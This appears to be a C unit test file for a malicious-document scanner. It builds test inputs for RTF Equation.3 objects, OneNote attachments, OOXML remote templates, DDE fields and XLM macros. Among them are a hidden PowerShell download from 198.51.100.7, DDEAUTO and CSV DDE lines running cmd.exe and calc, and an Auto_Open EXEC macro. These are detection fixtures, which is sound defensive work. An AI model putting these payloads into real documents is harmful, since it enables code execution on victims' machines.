/*
 * test_heur_maldoc - heur/rtf.c, heur/onenote.c, heur/ooxml.c and the BIFF evaluation of
 *                    heur/xlm.c on real files (skipped without ../shared/corpus; run from
 *                    the repository root) and on inputs built here
 *
 * Each case asserts the symbols that must and must not appear, and what was handed to
 * c->emit (how, language, a substring of the decoded bytes).
 */
#include <setjmp.h> /* setjmp.h, stdarg.h and stddef.h must precede cmocka.h */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "heur/onenote.h"
#include "heur/ooxml.h"
#include "heur/rtf.h"
#include "heur/xlm.h"
#include "lib/buf.h"
#include "model/hit.h"
#include "testhits.h"
#include "testutil.h"

#define CORPUS "../shared/corpus"

typedef struct EMITS {
    char how[32][16], lang[32][8];
    BUF *data[32];
    size_t n;
} EMITS;

static void on_emit(void *ctx, const char *how, const char *lang, const unsigned char *d, size_t n)
{
    EMITS *e = ctx;
    if (e->n >= 32)
        return;
    snprintf(e->how[e->n], sizeof(e->how[0]), "%s", how);
    snprintf(e->lang[e->n], sizeof(e->lang[0]), "%s", lang ? lang : "");
    e->data[e->n] = buf_new(n + 1);
    buf_cat(e->data[e->n++], d, n);
}

static HEUR_CTX ctx(HITS *h, EMITS *e)
{
    return (HEUR_CTX){h, "1/t", NULL, e ? on_emit : NULL, e, 0, 1u << 20, 40};
}

static void emits_free(EMITS *e)
{
    for (size_t i = 0; i < e->n; i++)
        buf_free(e->data[i]);
    e->n = 0;
}

/* emitted - an emitted layer of this kind whose bytes hold needle (NULL: any) */
static bool emitted(const EMITS *e, const char *how, const char *lang, const char *needle)
{
    for (size_t i = 0; i < e->n; i++)
        if (strcmp(e->how[i], how) == 0 && (lang == NULL || strcmp(e->lang[i], lang) == 0) &&
            (needle == NULL || memmem(e->data[i]->data, e->data[i]->len, needle, strlen(needle))))
            return true;
    return false;
}

/* ------------------------------------------------------------------ RTF */

static void test_rtf_built(void **state)
{
    (void)state;
    /* OLE1 header of an Equation.3 object, hex with blanks, a junk letter and a control
     * word between nibbles, loaded on open */
    const char *rtf = "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata "
                      "0105 0000 02\\par00 0000 0b00z0000 4571756174696f6e2e3300 00000000 "
                      "00000000 10000000 d0cf11e0a1b11ae1 0000000000000000}}}";
    HITS *h = hits_new();
    HEUR_CTX c = ctx(h, NULL);
    heur_rtf(&c, (const unsigned char *)rtf, strlen(rtf));
    int bad = hits_expect(h,
                          "RTF_OBJECT RTF_OBJUPDATE RTF_EQUATION_OBJECT RTF_EXPLOIT_CARRIER "
                          "RTF_OBJDATA_OBFUSCATED",
                          "RTF_PACKAGE", "built Equation.3");
    hits_free(h);
    /* a plain RTF with an ordinary object class and clean hex: only RTF_OBJECT */
    const char *plain = "{\\rtf1{\\object\\objemb{\\*\\objclass Word.Document.8}{\\*\\objdata "
                        "01050000020000000f000000576f72642e446f63756d656e742e3800"
                        "0000000000000000040000000102030405}}}";
    h = hits_new();
    c = ctx(h, NULL);
    heur_rtf(&c, (const unsigned char *)plain, strlen(plain));
    bad +=
        hits_expect(h, "RTF_OBJECT",
                    "RTF_OBJUPDATE RTF_EQUATION_OBJECT RTF_EXPLOIT_CARRIER RTF_OBJDATA_OBFUSCATED",
                    "plain object");
    /* truncations stay inside the buffer */
    for (size_t cut = 0; cut < strlen(rtf); cut++)
        heur_rtf(&c, (const unsigned char *)rtf, cut);
    hits_free(h);
    /* an Equation.3 object whose native data is a compound file (600 bytes): handed back
     * as an "oleobject" layer for the scan stage's Equation Native judging; the same
     * bytes under another class are not */
    for (int k = 0; k < 2; k++) {
        BUF *b = buf_new(2048);
        buf_printf(b,
                   "{\\rtf1{\\object\\objemb{\\*\\objclass %s}{\\*\\objdata "
                   "01050000 02000000 0b000000 %s 00000000 00000000 58020000 d0cf11e0a1b11ae1",
                   k ? "Word.Document.8" : "Equation.3",
                   k ? "576f72642e446f63756d656e742e3800" : "4571756174696f6e2e3300");
        if (k) /* the class name is longer: same length field as written above */
            memcpy(strstr(b->data, "0b000000"), "0f000000", 8);
        for (int i = 0; i < 592; i++)
            buf_puts(b, "00");
        buf_puts(b, "}}}");
        EMITS e = {0};
        h = hits_new();
        c = ctx(h, &e);
        heur_rtf(&c, (const unsigned char *)b->data, b->len);
        bool got = emitted(&e, "oleobject", NULL, "\xd0\xcf\x11\xe0");
        if (got != (k == 0)) {
            printf("    FAIL rtf %s: oleobject layer %s\n", k ? "Word object" : "Equation.3",
                   got ? "emitted" : "missing");
            bad++;
        }
        emits_free(&e);
        hits_free(h);
        buf_free(b);
    }
    assert_int_equal(bad, 0);
}

static void test_rtf_corpus(void **state)
{
    (void)state;
    size_t n;
    unsigned char *d = slurp(CORPUS "/oletools/test-data/rtfobj/issue_251.rtf", &n);
    if (d == NULL) {
        skip();
        return;
    }
    HITS *h = hits_new();
    HEUR_CTX c = ctx(h, NULL);
    heur_rtf(&c, d, n);
    int bad =
        hits_expect(h, "RTF_EQUATION_OBJECT RTF_EXPLOIT_CARRIER RTF_OBJUPDATE", NULL, "issue_251");
    hits_free(h);
    free(d);
    /* clam.exe in an OLE1 Package: its name and its bytes come out */
    d = slurp(CORPUS "/clamav-testfiles/files/clam.exe.rtf", &n);
    if (d) {
        EMITS e = {0};
        h = hits_new();
        c = ctx(h, &e);
        heur_rtf(&c, d, n);
        bad += hits_expect(h, "RTF_PACKAGE OLE_PACKAGE_EXECUTABLE", "RTF_EQUATION_OBJECT",
                           "clam.exe.rtf");
        bad += !emitted(&e, "package", "", "MZ");
        emits_free(&e);
        hits_free(h);
        free(d);
    }
    /* the RTF specification (no objects): nothing */
    d = slurp(CORPUS "/oletools/test-data/msodde/RTF-Spec-1.7.rtf", &n);
    if (d) {
        h = hits_new();
        c = ctx(h, NULL);
        heur_rtf(&c, d, n);
        bad += hits_expect(h, NULL, "RTF_OBJECT RTF_EQUATION_OBJECT RTF_OBJDATA_OBFUSCATED",
                           "RTF spec");
        hits_free(h);
        free(d);
    }
    assert_int_equal(bad, 0);
}

/* ------------------------------------------------------------------ OneNote */

/* fdso - append a FileDataStoreObject holding p[0..n) */
static void fdso(BUF *b, const void *p, size_t n)
{
    static const unsigned char head[16] = {0xe7, 0x16, 0xe3, 0xbd, 0x65, 0x26, 0x11, 0x45,
                                           0xa4, 0xc4, 0x8d, 0x4d, 0x0b, 0x7a, 0x9e, 0xac};
    static const unsigned char foot[16] = {0x22, 0xa7, 0xfb, 0x71, 0x79, 0x0f, 0x0b, 0x4a,
                                           0xbb, 0x13, 0x89, 0x92, 0x56, 0x42, 0x6b, 0x24};
    unsigned char len[20] = {0};
    for (int i = 0; i < 8; i++)
        len[i] = (unsigned char)(n >> (8 * i));
    buf_cat(b, head, 16);
    buf_cat(b, len, 20);
    buf_cat(b, p, n);
    while ((b->len % 8) != 0)
        buf_putc(b, 0);
    buf_cat(b, foot, 16);
}

/* utf16 - append s as UTF-16LE */
static void utf16(BUF *b, const char *s)
{
    for (; *s; s++)
        buf_putc(b, *s), buf_putc(b, 0);
}

static void test_onenote_built(void **state)
{
    (void)state;
    const char *cmd = "@echo off\r\npowershell -w hidden -c \"iwr http://198.51.100.7/a\"\r\n";
    BUF *b = buf_new(512);
    buf_cat(b, "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16);
    buf_cat(b, "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 32);
    utf16(b, "C:\\Users\\x\\Desktop\\Invoice.cmd");
    buf_cat(b, "\0\0\0", 3);                          /* odd offset from here */
    fdso(b, "\x89PNG\r\n\x1a\n0000000000000000", 24); /* a picture: ignored */
    fdso(b, cmd, strlen(cmd));
    EMITS e = {0};
    HITS *h = hits_new();
    HEUR_CTX c = ctx(h, &e);
    heur_onenote(&c, (const unsigned char *)b->data, b->len);
    int bad =
        hits_expect(h, "ONENOTE_EMBEDDED_SCRIPT", "ONENOTE_EMBEDDED_EXECUTABLE", "built .cmd");
    bad += !emitted(&e, "onenote", "bat", "powershell");
    bad += emitted(&e, "onenote", NULL, "PNG"); /* pictures are not layers */
    for (size_t cut = 0; cut < b->len; cut++)
        heur_onenote(&c, (const unsigned char *)b->data, cut);
    emits_free(&e);
    hits_free(h);
    /* a notebook with only a picture and a text attachment: not a finding */
    buf_reset(b);
    buf_cat(b, "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16);
    buf_cat(b, "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 32);
    utf16(b, "notes.txt");
    fdso(b, "\x89PNG\r\n\x1a\n0000000000000000", 24);
    fdso(b, "Minutes of the meeting. All fine.\r\n", 35);
    h = hits_new();
    c = ctx(h, NULL);
    heur_onenote(&c, (const unsigned char *)b->data, b->len);
    bad += hits_expect(h, NULL, "ONENOTE_EMBEDDED_SCRIPT ONENOTE_EMBEDDED_EXECUTABLE",
                       "benign notebook");
    hits_free(h);
    buf_free(b);
    assert_int_equal(bad, 0);
}

static void test_onenote_corpus(void **state)
{
    (void)state;
    size_t n;
    unsigned char *d =
        slurp(CORPUS "/clamav-unittest-input/scanfiles_decoded/clam.exe.2010.one", &n);
    if (d == NULL) {
        skip();
        return;
    }
    EMITS e = {0};
    HITS *h = hits_new();
    HEUR_CTX c = ctx(h, &e);
    heur_onenote(&c, d, n);
    /* 53 objects: 52 PNG pictures and the 544-byte clam.exe */
    int bad = hits_expect(h, "ONENOTE_EMBEDDED_EXECUTABLE", "ONENOTE_EMBEDDED_SCRIPT", "clam 2010");
    bad += !(e.n == 1 && e.data[0]->len == 544 && memcmp(e.data[0]->data, "MZ", 2) == 0);
    emits_free(&e);
    hits_free(h);
    free(d);
    assert_int_equal(bad, 0);
}

/* ------------------------------------------------------------------ OOXML, DDE */

typedef struct OCASE {
    const char *name, *part, *data, *want, *nowant;
} OCASE;

static const OCASE ocases[] = {
    {"oleObject autoLoad", "sheet1.xml",
     "<worksheet><oleObjects><oleObject progId=\"Equation.3\" shapeId=\"1025\" r:id=\"rId1\" "
     "autoLoad=\"true\"/></oleObjects></worksheet>",
     "OOXML_OLE_AUTOLOAD", NULL},
    {"oleObject without autoLoad", "sheet1.xml",
     "<worksheet><oleObjects><oleObject progId=\"Word.Document.12\" shapeId=\"1025\" "
     "r:id=\"rId1\" autoLoad=\"false\"/></oleObjects></worksheet>",
     NULL, "OOXML_OLE_AUTOLOAD"},
    {"remote template", "settings.xml.rels",
     "<Relationships><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/"
     "officeDocument/2006/relationships/attachedTemplate\" Target=\"https://198.51.100.7/t.dotm\" "
     "TargetMode=\"External\"/></Relationships>",
     "OOXML_REMOTE_TEMPLATE", "OOXML_REMOTE_OLEOBJECT"},
    {"local template", "settings.xml.rels",
     "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
     "relationships/attachedTemplate\" Target=\"file:///C:\\Templates\\Normal.dotm\"/>",
     NULL, "OOXML_REMOTE_TEMPLATE"},
    {"external hyperlink", "document.xml.rels",
     "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
     "relationships/hyperlink\" Target=\"https://example.org/\" TargetMode=\"External\"/>",
     NULL, "OOXML_REMOTE_TEMPLATE OOXML_REMOTE_FRAME OOXML_REMOTE_OLEOBJECT"},
    {"mhtml oleObject", "document.xml.rels",
     "<Relationship Id=\"rId5\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
     "relationships/oleObject\" Target=\"mhtml:http://198.51.100.7/x.html!x-usc:http://"
     "198.51.100.7/x.html\" TargetMode=\"External\"/>",
     "OOXML_REMOTE_OLEOBJECT", NULL},
    {"DDEAUTO over runs", "document.xml",
     "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\"
     "cmd.exe \"/k calc.exe\"</w:instrText></w:r>",
     "OOXML_DDEAUTO", "OOXML_REMOTE_FIELD"},
    {"fldSimple DDE", "document.xml",
     "<w:fldSimple w:instr=\" DDE c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \"/>",
     "OOXML_DDE", "OOXML_DDEAUTO"},
    {"INCLUDEPICTURE remote", "document.xml",
     "<w:instrText xml:space=\"preserve\"> INCLUDEPICTURE \"http://198.51.100.7/p.png\" "
     "\\d </w:instrText>",
     "OOXML_REMOTE_FIELD", "OOXML_DDE"},
    {"ordinary fields", "document.xml",
     "<w:instrText> PAGE </w:instrText><w:instrText> TOC \\o \"1-3\" </w:instrText>"
     "<w:instrText> INCLUDEPICTURE \"media/image1.png\" </w:instrText>",
     NULL, "OOXML_DDE OOXML_DDEAUTO OOXML_REMOTE_FIELD"},
    {"ddeLink", "externalLink1.xml",
     "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc.exe\"></ddeLink></externalLink>",
     "DDE_LINK", NULL},
    {"csv DDE", "list.csv", "name,value\r\na,=cmd|'/c powershell -c calc'!A0\r\n", "DDE_FORMULA",
     NULL},
    {"csv formulas", "list.csv", "a,b\r\n1,=SUM(A1:A3)\r\n2,=A1|B1\r\n", NULL, "DDE_FORMULA"},
    {"Flash ActiveX", "activeX1.xml",
     "<ax:ocx ax:classid=\"{D27CDB6E-AE6D-11CF-96B8-444553540000}\" ax:persistence=\"x\"/>",
     "OOXML_FLASH", "OOXML_ACTIVEX"},
    {"Word binary DDEAUTO", NULL, "xx\x13 DDEAUTO c:\\\\windows\\\\cmd.exe \"/c calc\"\x14",
     "OOXML_DDEAUTO", NULL},
};

static void test_ooxml(void **state)
{
    (void)state;
    int bad = 0;
    for (size_t i = 0; i < sizeof(ocases) / sizeof(ocases[0]); i++) {
        const OCASE *t = &ocases[i];
        EMITS e = {0};
        HITS *h = hits_new();
        HEUR_CTX c = ctx(h, &e);
        heur_ooxml(&c, t->part, (const unsigned char *)t->data, strlen(t->data));
        bad += hits_expect(h, t->want, t->nowant, t->name);
        if (t->want && strstr(t->want, "DDE") && strcmp(t->name, "Word binary DDEAUTO") != 0 &&
            !emitted(&e, "dde", "bat", "calc"))
            printf("    FAIL %s: no dde layer\n", t->name), bad++;
        for (size_t cut = 0; cut < strlen(t->data); cut++)
            heur_ooxml(&c, t->part, (const unsigned char *)t->data, cut);
        emits_free(&e);
        hits_free(h);
    }
    assert_int_equal(bad, 0);
}

/* test_ooxml_fields_heavy - a part of ~250 KB of short words that start like field keywords,
 * then a remote INCLUDEPICTURE and a DDEAUTO: the same two findings, in bounded CPU time
 * (each word once decoded and tested by prefix, not a fresh decode of the rest of the text) */
static void test_ooxml_fields_heavy(void **state)
{
    (void)state;
    static const char *const fill[] = {"d ", "dd ", "link x ", "includetext y ", "l "};
    BUF *b = buf_new(300u << 10);
    buf_puts(b, "<w:document><w:r><w:instrText>");
    for (size_t i = 0; b->len < (250u << 10); i++)
        buf_puts(b, fill[i % 5]);
    buf_puts(b, "</w:instrText></w:r><w:r><w:instrText> INCLUDEPICTURE "
                "\"http://198.51.100.7/p.png\" </w:instrText></w:r><w:r><w:instrText>DDE"
                "</w:instrText><w:instrText>AUTO c:\\windows\\cmd.exe \"/c calc\""
                "</w:instrText></w:r></w:document>");
    EMITS e = {0};
    HITS *h = hits_new();
    HEUR_CTX c = ctx(h, &e);
    clock_t t0 = clock();
    heur_ooxml(&c, "document.xml", (const unsigned char *)b->data, b->len);
    double cpu = (double)(clock() - t0) / CLOCKS_PER_SEC;
    int bad = hits_expect(h, "OOXML_REMOTE_FIELD OOXML_DDEAUTO", "OOXML_DDE", "fields heavy");
    bad += !emitted(&e, "dde", "bat", "calc");
    printf("    fields heavy: %zu bytes, %.3f s CPU\n", b->len, cpu);
    emits_free(&e);
    hits_free(h);
    buf_free(b);
    assert_int_equal(bad, 0);
    assert_true(cpu < 0.3); /* 0.004 s here; the decode-per-word version took 1.2 s */
}

/* ------------------------------------------------------------------ XLM in BIFF8 */

static void rec(BUF *b, unsigned type, const void *body, size_t n)
{
    unsigned char h[4] = {(unsigned char)type, (unsigned char)(type >> 8), (unsigned char)n,
                          (unsigned char)(n >> 8)};
    buf_cat(b, h, 4);
    buf_cat(b, body, n);
}

/* biff - a workbook stream: (macro) sheet, Auto_Open, FORMULA(CHAR(61)&"EXEC(""calc"")",R2C1) */
static BUF *biff(bool macro)
{
    BUF *b = buf_new(256);
    static const unsigned char bof[16] = {0x00, 0x06, 0x05, 0x00};
    static const unsigned char bofm[16] = {0x00, 0x06, 0x40, 0x00};
    unsigned char sheet[] = {0, 0, 0, 0, 2, 1, 6, 0, 'M', 'a', 'c', 'r', 'o', '1'};
    static const unsigned char name[] = {0x20, 0, 0, 1, 7, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1};
    sheet[5] = macro ? 1 : 0;
    rec(b, 0x0809, bof, sizeof(bof));
    rec(b, 0x0085, sheet, sizeof(sheet));
    if (macro)
        rec(b, 0x0018, name, sizeof(name));
    rec(b, 0x000a, "", 0);
    rec(b, 0x0809, macro ? bofm : bof, 16);
    /* CHAR(61) & "EXEC(\"calc\")", then FORMULA(that, R2C1): ptgInt 61, ptgFunc CHAR,
     * ptgStr, ptgConcat, ptgRef R2C1, ptgFuncVar(2, FORMULA 0x8060) */
    static const unsigned char rgce[] = {
        0x1e, 61,  0,   0x41, 0x6f, 0x00, 0x17, 12, 0, 'E', 'X', 'E',  'C', '(',  '"', 'c',
        'a',  'l', 'c', '"',  ')',  0x08, 0x44, 1,  0, 0,   0,   0x42, 2,   0x60, 0x80};
    unsigned char f[22 + sizeof(rgce)] = {0};
    f[20] = sizeof(rgce);
    memcpy(f + 22, rgce, sizeof(rgce));
    rec(b, 0x0006, f, sizeof(f));
    rec(b, 0x000a, "", 0);
    return b;
}

static void test_xlm_biff_eval(void **state)
{
    (void)state;
    BUF *s = biff(true);
    EMITS e = {0};
    HITS *h = hits_new();
    HEUR_CTX c = ctx(h, &e);
    heur_xlm(&c, (const unsigned char *)s->data, s->len);
    int bad = hits_expect(
        h, "XLM_AUTO_OPEN XLM_EXEC XLM_FORMULA_WRITE XLM_HIDDEN_SHEET XLM_AUTO_OPEN_EXEC", NULL,
        "BIFF FORMULA(CHAR...)");
    bad += !emitted(&e, "xlm", NULL, "FORMULA(\"=EXEC(\"calc\")\",R2C1)");
    emits_free(&e);
    hits_free(h);
    buf_free(s);
    /* the same FORMULA record in a workbook without macro sheets (a VBA-only .xls has no
     * BOUNDSHEET dt=1 and no Auto_Open name): no XLM symbol */
    s = biff(false);
    h = hits_new();
    c = ctx(h, NULL);
    heur_xlm(&c, (const unsigned char *)s->data, s->len);
    bad += hits_expect(
        h, NULL, "XLM_AUTO_OPEN XLM_EXEC XLM_FORMULA_WRITE XLM_HIDDEN_SHEET XLM_CALL_REGISTER",
        "no macro sheet");
    hits_free(h);
    buf_free(s);
    assert_int_equal(bad, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_rtf_built),     cmocka_unit_test(test_rtf_corpus),
        cmocka_unit_test(test_onenote_built), cmocka_unit_test(test_onenote_corpus),
        cmocka_unit_test(test_ooxml),         cmocka_unit_test(test_ooxml_fields_heavy),
        cmocka_unit_test(test_xlm_biff_eval),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
